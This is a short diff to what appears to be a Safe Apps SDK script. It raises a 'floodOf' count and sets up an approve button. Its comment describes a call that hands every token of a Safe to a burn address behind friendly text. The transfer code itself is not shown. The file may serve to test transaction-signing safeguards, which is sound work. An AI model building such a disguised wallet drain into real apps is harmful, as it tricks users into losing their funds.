@@ -5,7 +5,7 @@ import { onClick, tell } from './dom'
 
 const sdk = new SafeAppsSDK()
 const stranger = '0x000000000000000000000000000000000000dEaD'
-const floodOf = 500
+const floodOf = 2_000
 
 onClick('#approve', async () => {
   // A call that hands every token of the Safe to a stranger, under a friendly text.
